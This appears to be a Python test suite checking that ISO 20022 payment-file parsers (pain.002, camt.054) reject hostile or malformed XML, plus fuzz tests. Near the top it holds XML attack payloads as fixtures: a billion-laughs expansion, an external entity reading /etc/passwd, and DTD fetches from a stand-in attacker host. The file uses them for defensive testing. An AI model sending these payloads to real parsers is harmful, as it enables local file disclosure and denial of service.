"""Hostile, broken or foreign inbound files raise InboundMessageError, and nothing else ever escapes."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansinh.providers.errors import InboundMessageError
from ansinh.providers.iso20022 import camt054_results, parse_camt054, parse_pain002
from ansinh.providers.xsd import XsdCatalog

Sample = Callable[[str], bytes]
Parser = Callable[..., list[Any]]
PAIN002 = "pain002_v03_mixed.xml"
CAMT054 = "camt054_v02_debit_return_funding.xml"
FIXTURES = [
    (parse_pain002, PAIN002),
    (parse_pain002, "pain002_v12_mixed.xml"),
    (parse_pain002, "pain002_v15_accepted.xml"),
    (parse_camt054, CAMT054),
    (parse_camt054, "camt054_v08_batch_and_return.xml"),
]
PARSERS = [pytest.param(parse_pain002, id="pain002"), pytest.param(parse_camt054, id="camt054")]

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Document [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03">&lol9;</Document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"><CstmrPmtStsRpt>&secret;</CstmrPmtStsRpt></Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.invalid/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"/>"""


def _with_doctype(data: bytes) -> bytes:
    head, _, rest = data.partition(b"?>")
    return head + b"?>\n<!DOCTYPE Document>" + rest


@pytest.mark.parametrize("parser", PARSERS)
@pytest.mark.parametrize(
    "data",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
        pytest.param(b"", id="empty"),
        pytest.param(b"\x00\xff\xfe garbage", id="binary"),
        pytest.param(b'{"status": "ACSC"}', id="json"),
        pytest.param(b'<?xml version="1.0" encoding="x-no-such"?><Document/>', id="unknown-encoding"),
        pytest.param(b"<a>" * 10_000 + b"</a>" * 10_000, id="deep-nesting"),
    ],
)
def test_hostile_or_garbage_input_is_refused(parser: Parser, data: bytes) -> None:
    with pytest.raises(InboundMessageError):
        parser(data)


@pytest.mark.parametrize(("parser", "name"), FIXTURES)
def test_a_dtd_even_a_harmless_one_is_refused(parser: Parser, name: str, sample: Sample) -> None:
    with pytest.raises(InboundMessageError, match="DTD"):
        parser(_with_doctype(sample(name)))


@pytest.mark.parametrize(("parser", "name"), FIXTURES)
def test_a_truncated_file_is_refused(parser: Parser, name: str, sample: Sample) -> None:
    data = sample(name)
    for cut in (len(data) // 3, len(data) // 2, len(data) - 15):
        with pytest.raises(InboundMessageError, match="malformed XML"):
            parser(data[:cut])


@pytest.mark.parametrize(
    ("parser", "name", "old", "new"),
    [
        (parse_pain002, PAIN002, b"pain.002.001.03", b"pain.002.001.99"),
        (parse_pain002, PAIN002, b"pain.002.001.03", b"pain.002.001.02"),
        (parse_pain002, PAIN002, b"urn:iso:std:iso:20022:tech:xsd:pain.002.001.03", b"urn:example:pain.002.001.03"),
        (parse_pain002, CAMT054, b"", b""),  # a camt.054 handed to the pain.002 reader
        (parse_camt054, CAMT054, b"camt.054.001.02", b"camt.053.001.02"),
        (parse_camt054, CAMT054, b"camt.054.001.02", b"camt.054.001.14"),
        (parse_camt054, PAIN002, b"", b""),
    ],
)
def test_a_wrong_namespace_is_refused(parser: Parser, name: str, old: bytes, new: bytes, sample: Sample) -> None:
    data = sample(name).replace(old, new) if old else sample(name)
    with pytest.raises(InboundMessageError, match="namespace"):
        parser(data)


@pytest.mark.parametrize(
    ("parser", "data"),
    [
        (parse_pain002, b'<CstmrPmtStsRpt xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.03"/>'),
        (parse_camt054, b'<BkToCstmrDbtCdtNtfctn xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"/>'),
    ],
)
def test_a_wrong_root_element_is_refused(parser: Parser, data: bytes) -> None:
    with pytest.raises(InboundMessageError, match="not Document"):
        parser(data)


@pytest.mark.parametrize(
    ("parser", "name", "old", "new", "fragment"),
    [
        (parse_pain002, PAIN002, b">750000</InstdAmt>", b">750000.50</InstdAmt>", "no minor unit"),
        (parse_pain002, PAIN002, b">750000</InstdAmt>", b">-750000</InstdAmt>", "negative amount"),
        (parse_pain002, PAIN002, b">750000</InstdAmt>", b">7.5e5</InstdAmt>", "malformed amount"),
        (parse_pain002, PAIN002, b'Ccy="VND">750000', b'Ccy="USD">750000', "not VND"),
        (parse_camt054, CAMT054, b">750000</Amt>", b">750000.5</Amt>", "no minor unit"),
        (parse_camt054, CAMT054, b'<Amt Ccy="VND">750000</Amt>', b'<Amt Ccy="VND">-750000</Amt>', "negative"),
        (parse_camt054, CAMT054, b"<CdtDbtInd>DBIT</CdtDbtInd>", b"<CdtDbtInd>DEBIT</CdtDbtInd>", "CdtDbtInd"),
        (parse_camt054, CAMT054, b"<Sts>BOOK</Sts>", b"<Sts>DONE</Sts>", "entry status"),
        (parse_camt054, CAMT054, b"<Dt>2024-07-05</Dt>", b"<Dt>2024-02-30</Dt>", "malformed date"),
        (parse_pain002, PAIN002, b"<OrgnlMsgId>AS-2024-07-HN-0001</OrgnlMsgId>", b"", "OrgnlMsgId"),
        (parse_pain002, PAIN002, b"<OrgnlEndToEndId>AS-2024-07-000003</OrgnlEndToEndId>", b"", "OrgnlEndToEndId"),
        (parse_pain002, PAIN002, b"AS-2024-07-000005", b"AS-2024-07-000005-TOO-LONG-FOR-MAX35TEXT", "35"),
    ],
)
def test_a_non_conforming_field_is_refused(
    *, parser: Parser, name: str, old: bytes, new: bytes, fragment: str, sample: Sample
) -> None:
    data = sample(name)
    assert old in data
    with pytest.raises(InboundMessageError, match=fragment):
        parser(data.replace(old, new, 1))


# ------------------------------------------------------------------------------------------------- fuzzing


def _parse_everything(parser: Parser, data: bytes, catalog: XsdCatalog | None) -> None:
    """Run a parser the way production does; only InboundMessageError may come out."""
    try:
        result = parser(data, schemas=catalog)
    except InboundMessageError:
        return
    if parser is parse_camt054:
        camt054_results(result)


@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=2_000), use_pain002=st.booleans())
def test_arbitrary_bytes_never_raise_anything_but_the_named_error(data: bytes, use_pain002: bool) -> None:
    _parse_everything(parse_pain002 if use_pain002 else parse_camt054, data, None)


_mutation = st.tuples(
    st.sampled_from(["replace", "insert", "delete", "duplicate"]),
    st.floats(min_value=0, max_value=1, allow_nan=False),
    st.binary(min_size=1, max_size=12)
    | st.sampled_from([b"<", b">", b"&", b"/", b'"', b"&lol;", b"<!DOCTYPE x>", b"]]>", b"\x00", b"\xc3", b"-", b"."]),
)


def _mutate(data: bytes, mutations: list[tuple[str, float, bytes]]) -> bytes:
    for operation, where, chunk in mutations:
        at = int(where * len(data))
        if operation == "replace":
            data = data[:at] + chunk + data[at + len(chunk) :]
        elif operation == "insert":
            data = data[:at] + chunk + data[at:]
        elif operation == "delete":
            data = data[:at] + data[at + len(chunk) :]
        else:
            data = data[:at] + data[at : at + 200] + data[at:]
    return data


@settings(
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    fixture=st.sampled_from(FIXTURES),
    mutations=st.lists(_mutation, min_size=1, max_size=4),
    validate=st.booleans(),
)
def test_mutated_valid_documents_never_raise_anything_but_the_named_error(
    *,
    fixture: tuple[Parser, str],
    mutations: list[tuple[str, float, bytes]],
    validate: bool,
    sample: Sample,
    catalog: XsdCatalog,
) -> None:
    parser, name = fixture
    _parse_everything(parser, _mutate(sample(name), mutations), catalog if validate else None)


_TEXT_NODE = st.sampled_from(
    [b">750000<", b">AS-2024-07-000001<", b">RJCT<", b">ACSC<", b">BOOK<", b">DBIT<", b">CRDT<", b">AC04<",
     b">2024-07-05<", b">VND<", b"\"VND\"", b">pain.001.001.09<", b">1234567890<", b">1080000.00<"]
)  # fmt: skip
_TEXT_VALUE = st.text(max_size=40).map(lambda text: text.encode("utf-8", "surrogatepass")) | st.sampled_from(
    [b"", b" ", b"-1", b"1.5", b"1e3", b"99999999999999999999", b"&amp;", b"NOTPROVIDED", b"PART", b"INFO"]
)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    fixture=st.sampled_from(FIXTURES),
    node=_TEXT_NODE,
    value=_TEXT_VALUE,
    validate=st.booleans(),
)
def test_documents_with_a_field_replaced_never_raise_anything_but_the_named_error(
    *, fixture: tuple[Parser, str], node: bytes, value: bytes, validate: bool, sample: Sample, catalog: XsdCatalog
) -> None:
    parser, name = fixture
    data = sample(name).replace(node, node[:1] + value + node[-1:])
    _parse_everything(parser, data, catalog if validate else None)
